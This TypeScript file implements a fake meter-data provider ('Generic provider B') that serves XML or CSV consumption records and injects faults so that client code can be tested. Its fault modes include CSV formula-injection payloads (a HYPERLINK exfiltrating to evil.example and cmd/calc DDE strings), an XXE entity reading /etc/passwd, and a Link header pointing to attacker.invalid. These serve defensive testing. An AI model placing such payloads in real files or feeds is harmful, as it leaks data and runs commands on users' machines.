/**
 * Generic provider B: XML or CSV consumption records (daily and monthly, ISO offsets) with cursor or
 * Link-header paging and HTTP Basic or OAuth2 password-grant auth. Not a real product; the
 * specification it serves is in README.md, section "Generic provider B".
 */
import {
  applyRecordFaults,
  json,
  text,
  header,
  intParam,
  FaultController,
  StatsCounter,
  startSimServer,
  simulatorHandle,
} from './common/http.js';
import type { JsonRecord, SimRequest, SimResponse, SimulatorHandle } from './common/http.js';
import type { CommodityInfo, GenericFaults } from './common/generic.js';
import { TokenStore, clientCredentials } from './common/tokens.js';
import { decodeOffsetToken, encodeOffsetToken } from './common/paging.js';
import { DayCache, dayTotal, roundTo } from './common/load.js';
import type { DaySeries, MeterModel } from './common/load.js';
import { hexId, pick, randInt, randRange, rngFor } from './common/prng.js';
import { BUILDINGS, buildingName, placeFor, postalFor, streetFor } from './common/places.js';
import {
  addDays,
  addMonths,
  daysBetween,
  formatZoned,
  isYmd,
  localDate,
  localMidnight,
  parseYmd,
} from './common/time.js';

export type { GenericFaults } from './common/generic.js';

export interface GenericXmlCsvOptions {
  seed?: number;
  buildings?: number;
  metersPerBuilding?: [number, number];
  from?: string;
  days?: number;
  timeZones?: string[];
  /** Default response format when neither ?format nor Accept chooses (default 'xml'). */
  format?: 'xml' | 'csv';
  pagination?: 'cursor' | 'link';
  auth?: 'basic' | 'oauth2-password';
  username?: string;
  password?: string;
  clientId?: string;
  clientSecret?: string;
  tokenLifetimeSeconds?: number;
  solarShare?: number;
  gapRate?: number;
  estimateRate?: number;
  now?: () => number;
  faults?: GenericFaults;
}

export interface GenericXmlCsvBuildingTruth {
  id: string;
  name: string;
  street: string;
  postal_code: string;
  city: string;
  country: string;
  portfolio: string;
}

export interface GenericXmlCsvMeterTruth {
  id: string;
  building_id: string;
  medium: 'Electricity' | 'Heat' | 'Water' | 'Gas';
  unit: 'kWh' | 'MWh' | 'm³';
  time_zone: string;
  description: string;
  hasSolar: boolean;
  /** Price per unit in EUR (cost = round2(consumption × price)); null when no cost is reported. */
  price: number | null;
  dataStart: number;
  dataEnd: number;
  model: MeterModel;
}

export interface ConsumptionRecord {
  meter_id: string;
  start: number;
  end: number;
  period_start: string;
  period_end: string;
  consumption: number;
  unit: string;
  redelivery: number | null;
  estimated: boolean;
  cost: number | null;
  currency: string | null;
}

export interface GenericXmlCsvTruth {
  buildings: GenericXmlCsvBuildingTruth[];
  meters: GenericXmlCsvMeterTruth[];
  meter(id: string): GenericXmlCsvMeterTruth | undefined;
  /** Records for local dates [startDate, endDate) (daily), or months starting in that range (monthly). */
  consumption(
    meterId: string,
    granularity: 'daily' | 'monthly',
    startDate: string,
    endDate: string,
  ): ConsumptionRecord[];
  day(meterId: string, date: string): DaySeries;
}

export interface GenericXmlCsvSimulator extends SimulatorHandle<GenericFaults> {
  truth(): GenericXmlCsvTruth;
  /** Expire every access token issued so far (oauth2-password mode). */
  expireTokens(): void;
  /** Valid credentials (Basic: username/password; OAuth2 password grant: all four). */
  credentials: { username: string; password: string; clientId: string; clientSecret: string };
}

const B_MEDIUM: Record<
  GenericXmlCsvMeterTruth['medium'],
  CommodityInfo & { unit: GenericXmlCsvMeterTruth['unit']; price: number | null }
> = {
  Electricity: { commodity: 'electricity', decimals: 3, unit: 'kWh', price: 0.18 },
  Heat: { commodity: 'heat', decimals: 6, unit: 'MWh', price: 85 },
  Water: { commodity: 'water', decimals: 3, unit: 'm³', price: null },
  Gas: { commodity: 'gas', decimals: 3, unit: 'm³', price: null },
};

/** invalidRecords variants for provider B consumption records. */
const B_CORRUPT: Array<(r: JsonRecord) => JsonRecord> = [
  (r) => ({ ...r, period_start: r.period_end, period_end: r.period_start }), // end before start
  (r) => ({ ...r, consumption: 'n/a' }),
  (r) => ({ ...r, cost: 12.5, currency: null }), // cost without currency
  (r) => ({ ...r, period_start: String(r.period_start).slice(0, 19) }), // no offset
];

export function xmlEscape(s: string): string {
  return s
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&apos;');
}

export function csvCell(v: string | number | boolean | null): string {
  if (v === null) return '';
  const s = String(v);
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

type Row = Record<string, string | number | boolean | null>;

const CSV_INJECTIONS = [
  '=HYPERLINK("http://evil.example/steal?d="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

export async function startGenericXmlCsvSimulator(
  opts: GenericXmlCsvOptions = {},
): Promise<GenericXmlCsvSimulator> {
  const seed = opts.seed ?? 1;
  const from = opts.from ?? '2024-01-01';
  if (!isYmd(from)) throw new Error(`from must be YYYY-MM-DD: ${from}`);
  const days = opts.days ?? 365;
  const timeZones = opts.timeZones ?? ['Europe/Berlin', 'Europe/Helsinki', 'America/New_York', 'UTC'];
  const defaultFormat = opts.format ?? 'xml';
  const pagination = opts.pagination ?? 'cursor';
  const auth = opts.auth ?? 'basic';
  const username = opts.username ?? 'meterflow';
  const password = opts.password ?? 'b-password-' + hexId(rngFor(seed, 'b-pw'), 12);
  const clientId = opts.clientId ?? 'b-client';
  const clientSecret = opts.clientSecret ?? 'b-secret-' + hexId(rngFor(seed, 'b-cs'), 12);
  const lifetime = opts.tokenLifetimeSeconds ?? 900;
  const now = opts.now ?? Date.now;
  const [minM, maxM] = opts.metersPerBuilding ?? [1, 3];
  const cache = new DayCache(seed, 2048);

  const buildings: GenericXmlCsvBuildingTruth[] = [];
  const meters: GenericXmlCsvMeterTruth[] = [];
  let meterSeq = 1001;
  const makeBuilding = (
    i: number,
  ): {
    b: GenericXmlCsvBuildingTruth;
    tz: string;
    building: MeterModel['building'];
    lat: number;
    lon: number;
  } => {
    const r = rngFor(seed, 'b-building', i);
    const tz = timeZones[i % timeZones.length] as string;
    const place = placeFor(r, tz);
    const building = pick(r, BUILDINGS);
    return {
      b: {
        id: `B-${101 + i}`,
        name: buildingName(r, building, place.city),
        street: streetFor(r, place),
        postal_code: postalFor(r, place),
        city: place.city,
        country: place.country,
        portfolio: pick(r, ['Core', 'Value-add', 'Opportunistic']),
      },
      tz,
      building,
      lat: place.latitude,
      lon: place.longitude,
    };
  };
  const addMeters = (i: number, x: ReturnType<typeof makeBuilding>, count: number): void => {
    const media: Array<GenericXmlCsvMeterTruth['medium']> = ['Electricity', 'Heat', 'Water', 'Gas'];
    for (let k = 0; k < count; k++) {
      const r = rngFor(seed, 'b-meter', i, k);
      const medium = media[k % media.length] as GenericXmlCsvMeterTruth['medium'];
      const info = B_MEDIUM[medium];
      const hasSolar = medium === 'Electricity' && r() < (opts.solarShare ?? 0.4);
      const size = {
        electricity: randRange(r, 20, 300),
        heat: randRange(r, 30, 400),
        cooling: 50,
        water: randRange(r, 0.3, 3),
        gas: randRange(r, 30, 300),
      }[info.commodity];
      const id = `EM-${meterSeq++}`;
      meters.push({
        id,
        building_id: x.b.id,
        medium,
        unit: info.unit,
        time_zone: x.tz,
        description: `${medium} meter ${k + 1} of ${x.b.name}`,
        hasSolar,
        price: info.price,
        dataStart: localMidnight(x.tz, from),
        dataEnd: localMidnight(x.tz, addDays(from, days)),
        model: {
          key: `b-${id}`,
          commodity: info.commodity,
          unit: info.unit,
          decimals: info.decimals,
          timeZone: x.tz,
          building: x.building,
          size,
          latitude: x.lat,
          longitude: x.lon,
          solarKwp: hasSolar ? Math.round(size * randRange(r, 0.5, 1.5)) : 0,
          resolutionMinutes: 15,
          gapRate: opts.gapRate ?? 0.02,
          estimateRate: opts.estimateRate ?? 0.01,
        },
      });
    }
  };
  const nBuildings = opts.buildings ?? 12;
  for (let i = 0; i < nBuildings; i++) {
    const x = makeBuilding(i);
    buildings.push(x.b);
    addMeters(i, x, randInt(rngFor(seed, 'b-building-n', i), minM, maxM));
  }
  const byId = new Map(meters.map((m) => [m.id, m]));

  const record = (
    m: GenericXmlCsvMeterTruth,
    start: number,
    end: number,
    imp: number,
    exp: number | null,
    est: boolean,
  ): ConsumptionRecord => ({
    meter_id: m.id,
    start,
    end,
    period_start: formatZoned(start, m.time_zone),
    period_end: formatZoned(end, m.time_zone),
    consumption: imp,
    unit: m.unit,
    redelivery: m.hasSolar ? exp : null,
    estimated: est,
    cost: m.price === null ? null : roundTo(imp * m.price, 2),
    currency: m.price === null ? null : 'EUR',
  });
  const consumption = (
    m: GenericXmlCsvMeterTruth,
    gran: 'daily' | 'monthly',
    a: string,
    b: string,
  ): ConsumptionRecord[] => {
    const out: ConsumptionRecord[] = [];
    const first = localDate(m.time_zone, m.dataStart);
    const lastExcl = addDays(first, days);
    const lo = a > first ? a : first;
    const hi = b < lastExcl ? b : lastExcl;
    if (gran === 'daily') {
      for (let d = lo; d < hi; d = addDays(d, 1)) {
        const day = cache.get(m.model, d);
        const t = dayTotal(day, m.model.decimals);
        out.push(record(m, day.start, day.end, t.imp, t.exp, t.estimated || t.missing));
      }
      return out;
    }
    for (let mo = a; mo < b; mo = addMonths(mo, 1)) {
      if (mo < first.slice(0, 8) + '01' || mo >= lastExcl) continue;
      let imp = 0;
      let exp = 0;
      let est = false;
      const next = addMonths(mo, 1);
      for (let d = mo > first ? mo : first; d < next && d < lastExcl; d = addDays(d, 1)) {
        const t = dayTotal(cache.get(m.model, d), m.model.decimals);
        imp += t.imp;
        exp += t.exp ?? 0;
        est ||= t.estimated || t.missing;
      }
      out.push(
        record(
          m,
          localMidnight(m.time_zone, mo),
          localMidnight(m.time_zone, next),
          roundTo(imp, m.model.decimals),
          m.hasSolar ? roundTo(exp, m.model.decimals) : null,
          est,
        ),
      );
    }
    return out;
  };

  const truth: GenericXmlCsvTruth = {
    buildings,
    meters,
    meter: (id) => byId.get(id),
    consumption: (id, g, a, b) => {
      const m = byId.get(id);
      if (!m) throw new Error(`unknown meter ${id}`);
      return consumption(m, g, a, b);
    },
    day: (id, date) => {
      const m = byId.get(id);
      if (!m) throw new Error(`unknown meter ${id}`);
      return cache.get(m.model, date);
    },
  };

  // ---- server
  const stats = new StatsCounter();
  const faults = new FaultController<GenericFaults>(opts.faults, stats);
  const tokens = new TokenStore(seed, now, 'at_');
  const refreshTokens = new Map<string, string>(); // refresh token → username
  let refreshSeq = 0;
  const buildingOrder = [...buildings];
  let insertedBuildings = 0;
  let base = '';

  const plain = (status: number, msg: string, headers: Record<string, string> = {}): SimResponse =>
    text(status, msg + '\n', 'text/plain; charset=utf-8', headers);

  const checkAuth = (req: SimRequest): SimResponse | null => {
    const h = header(req, 'authorization') ?? '';
    if (auth === 'basic') {
      const m = /^Basic\s+(\S+)$/i.exec(h);
      if (m) {
        const decoded = Buffer.from(m[1] as string, 'base64').toString('utf8');
        const i = decoded.indexOf(':');
        if (i >= 0 && decoded.slice(0, i) === username && decoded.slice(i + 1) === password) return null;
      }
      return plain(401, 'Unauthorized', { 'www-authenticate': 'Basic realm="meter-data"' });
    }
    const c = tokens.checkBearer(h);
    if (c.ok) return null;
    return plain(401, c.reason === 'expired' ? 'Access token expired' : 'Unauthorized', {
      'www-authenticate': `Bearer error="invalid_token"`,
    });
  };

  const chooseFormat = (req: SimRequest): 'xml' | 'csv' | null => {
    const f = req.query.get('format');
    if (f === 'xml' || f === 'csv') return f;
    if (f !== null) return null;
    const acc = header(req, 'accept') ?? '';
    if (/text\/csv/i.test(acc)) return 'csv';
    if (/(application|text)\/xml/i.test(acc)) return 'xml';
    return defaultFormat;
  };

  /** Page through `rows`, render in the chosen format with cursor or Link pagination. */
  const respond = (
    req: SimRequest,
    kind: { root: string; item: string; columns: string[]; xmlNames: string[] },
    rows: Row[],
  ): SimResponse => {
    const fmt = chooseFormat(req);
    if (!fmt) return plain(400, 'format must be xml or csv');
    const size = intParam(req.query, 'page_size') ?? 100;
    if (!Number.isInteger(size) || size < 1 || size > 500)
      return plain(400, 'page_size must be between 1 and 500');
    const keyParams = new URLSearchParams(req.query);
    keyParams.delete('page_token');
    keyParams.delete('format');
    keyParams.sort();
    const key = `${req.endpoint}?${keyParams.toString()}`;
    const tok = req.query.get('page_token');
    let offset = 0;
    if (tok !== null) {
      const o = decodeOffsetToken(tok, key);
      if (o === null) return plain(400, 'invalid page_token');
      offset = o;
    }
    let start = offset;
    if (offset > 0 && faults.take('duplicateAcrossPages', req.endpoint)) start = offset - 1;
    let page = rows.slice(start, offset + size);
    let next: string | null = offset + size < rows.length ? encodeOffsetToken(offset + size, key) : null;
    if (next !== null && tok !== null && faults.take('repeatedCursor', req.endpoint)) next = tok;

    if (fmt === 'csv' && faults.take('csvInjection', req.endpoint)) {
      page = page.map((r, i) => {
        const c = { ...r };
        const textCol = kind.columns.find((col) => col === 'name' || col === 'description' || col === 'unit');
        if (textCol) c[textCol] = CSV_INJECTIONS[i % CSV_INJECTIONS.length] as string;
        return c;
      });
    }

    const headers: Record<string, string> = {};
    if (next !== null) {
      if (pagination === 'link') {
        const u = new URL(req.url.pathname, base);
        for (const [k, v] of req.query) if (k !== 'page_token') u.searchParams.append(k, v);
        u.searchParams.set('page_token', next);
        const foreign = faults.take('foreignNextLink', req.endpoint);
        let href = u.toString();
        if (foreign) {
          const origin =
            'origin' in foreign && typeof foreign.origin === 'string'
              ? foreign.origin
              : 'http://attacker.invalid:8080';
          href = origin + u.pathname + u.search;
        }
        headers.link = `<${href}>; rel="next"`;
      } else if (fmt === 'csv') headers['x-next-page-token'] = next;
    }

    if (fmt === 'csv') {
      const lines = [kind.columns.join(',')];
      for (const r of page) lines.push(kind.columns.map((c) => csvCell(r[c] ?? null)).join(','));
      return text(200, lines.join('\r\n') + '\r\n', 'text/csv; charset=utf-8', headers);
    }
    const doctype = faults.take('xmlDoctype', req.endpoint);
    const parts: string[] = ['<?xml version="1.0" encoding="UTF-8"?>'];
    if (doctype) parts.push(`<!DOCTYPE ${kind.root} [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>`);
    parts.push(`<${kind.root}>`);
    page.forEach((r, idx) => {
      parts.push(`  <${kind.item}>`);
      kind.columns.forEach((c, i) => {
        const v = r[c];
        if (v === null || v === undefined) return;
        const name = kind.xmlNames[i] as string;
        const content =
          doctype && idx === 0 && (c === 'name' || c === 'description' || c === 'unit')
            ? '&xxe;'
            : xmlEscape(String(v));
        parts.push(`    <${name}>${content}</${name}>`);
      });
      parts.push(`  </${kind.item}>`);
    });
    if (next !== null && pagination === 'cursor')
      parts.push(`  <NextPageToken>${xmlEscape(next)}</NextPageToken>`);
    parts.push(`</${kind.root}>`);
    return text(200, parts.join('\n') + '\n', 'application/xml; charset=utf-8', headers);
  };

  const BUILDING_KIND = {
    root: 'Buildings',
    item: 'Building',
    columns: ['id', 'name', 'street', 'postal_code', 'city', 'country', 'portfolio'],
    xmlNames: ['Id', 'Name', 'Street', 'PostalCode', 'City', 'Country', 'Portfolio'],
  };
  const METER_KIND = {
    root: 'Meters',
    item: 'Meter',
    columns: ['id', 'building_id', 'medium', 'unit', 'time_zone', 'description'],
    xmlNames: ['Id', 'BuildingId', 'Medium', 'Unit', 'TimeZone', 'Description'],
  };
  const CONSUMPTION_KIND = {
    root: 'ConsumptionRecords',
    item: 'Record',
    columns: [
      'meter_id',
      'period_start',
      'period_end',
      'consumption',
      'unit',
      'redelivery',
      'estimated',
      'cost',
      'currency',
    ],
    xmlNames: [
      'MeterId',
      'PeriodStart',
      'PeriodEnd',
      'Consumption',
      'Unit',
      'Redelivery',
      'Estimated',
      'Cost',
      'Currency',
    ],
  };

  const routes = [
    {
      method: 'GET',
      path: '/v2/buildings',
      endpoint: 'buildings',
      handler: (req: SimRequest): SimResponse => {
        const u = checkAuth(req);
        if (u) return u;
        const rows = buildingOrder.map((b) => ({ ...b }));
        const out = respond(req, BUILDING_KIND, rows);
        if (
          out.status === 200 &&
          req.query.get('page_token') === null &&
          faults.take('shiftDuringPaging', req.endpoint)
        ) {
          const index = 1000 + insertedBuildings++;
          const x = makeBuilding(index);
          buildings.push(x.b);
          buildingOrder.unshift(x.b);
          addMeters(index, x, 1);
          const m = meters[meters.length - 1] as GenericXmlCsvMeterTruth;
          byId.set(m.id, m);
        }
        return out;
      },
    },
    {
      method: 'GET',
      path: '/v2/meters',
      endpoint: 'meters',
      handler: (req: SimRequest): SimResponse => {
        const u = checkAuth(req);
        if (u) return u;
        const b = req.query.get('building_id');
        const rows = meters
          .filter((m) => !b || m.building_id === b)
          .map((m) => ({
            id: m.id,
            building_id: m.building_id,
            medium: m.medium,
            unit: m.unit,
            time_zone: m.time_zone,
            description: m.description,
          }));
        return respond(req, METER_KIND, rows);
      },
    },
    {
      method: 'GET',
      path: '/v2/consumption',
      endpoint: 'consumption',
      handler: (req: SimRequest): SimResponse => {
        const u = checkAuth(req);
        if (u) return u;
        const m = byId.get(req.query.get('meter_id') ?? '');
        if (!m) return plain(404, 'unknown meter_id');
        const g = req.query.get('granularity');
        if (g !== 'daily' && g !== 'monthly') return plain(400, 'granularity must be daily or monthly');
        const a = req.query.get('start_date') ?? '';
        const b = req.query.get('end_date') ?? '';
        if (!isYmd(a) || !isYmd(b)) return plain(400, 'start_date and end_date must be YYYY-MM-DD');
        if (b <= a) return plain(400, 'end_date must be after start_date');
        if (g === 'daily' && daysBetween(a, b) > 366) return plain(400, 'daily range exceeds 366 days');
        if (g === 'monthly') {
          if (parseYmd(a).day !== 1 || parseYmd(b).day !== 1)
            return plain(400, 'monthly start_date and end_date must be the 1st of a month');
          if (addMonths(a, 60) < b) return plain(400, 'monthly range exceeds 60 months');
        }
        const rows = consumption(m, g, a, b).map((r) => ({
          meter_id: r.meter_id,
          period_start: r.period_start,
          period_end: r.period_end,
          consumption: r.consumption,
          unit: r.unit,
          redelivery: r.redelivery,
          estimated: r.estimated,
          cost: r.cost,
          currency: r.currency,
        }));
        return respond(
          req,
          CONSUMPTION_KIND,
          applyRecordFaults(rows, faults, req.endpoint, B_CORRUPT) as Row[],
        );
      },
    },
    {
      method: 'POST',
      path: '/oauth/token',
      endpoint: 'token',
      handler: (req: SimRequest): SimResponse => {
        if (auth !== 'oauth2-password')
          return json(404, { error: 'not_found', error_description: 'OAuth2 is not enabled' });
        const form = new URLSearchParams(req.body.toString('utf8'));
        const client = clientCredentials(header(req, 'authorization'), form);
        if (client.id !== clientId || client.secret !== clientSecret)
          return json(401, { error: 'invalid_client', error_description: 'Client authentication failed' });
        const gt = form.get('grant_type');
        let user: string;
        if (gt === 'password') {
          if (form.get('username') !== username || form.get('password') !== password) {
            return json(400, { error: 'invalid_grant', error_description: 'Invalid user credentials' });
          }
          user = username;
        } else if (gt === 'refresh_token') {
          const rt = form.get('refresh_token') ?? '';
          const u = refreshTokens.get(rt);
          if (!u) return json(400, { error: 'invalid_grant', error_description: 'Invalid refresh token' });
          refreshTokens.delete(rt); // rotation: a refresh token is single-use
          user = u;
        } else
          return json(400, {
            error: 'unsupported_grant_type',
            error_description: `Unsupported grant_type: ${gt ?? ''}`,
          });
        const t = tokens.issue(user, lifetime);
        const refresh = 'rt_' + hexId(rngFor(seed, 'refresh', ++refreshSeq), 32);
        refreshTokens.set(refresh, user);
        return json(
          200,
          {
            access_token: t.token,
            token_type: 'Bearer',
            expires_in: lifetime,
            refresh_token: refresh,
            scope: 'read',
          },
          { 'cache-control': 'no-store' },
        );
      },
    },
  ];

  const server = await startSimServer<GenericFaults>({ stats, faults, routes });
  base = server.url;

  return {
    ...simulatorHandle(server, stats, faults),
    truth: () => truth,
    expireTokens: () => tokens.expireAll(),
    credentials: { username, password, clientId, clientSecret },
  };
}
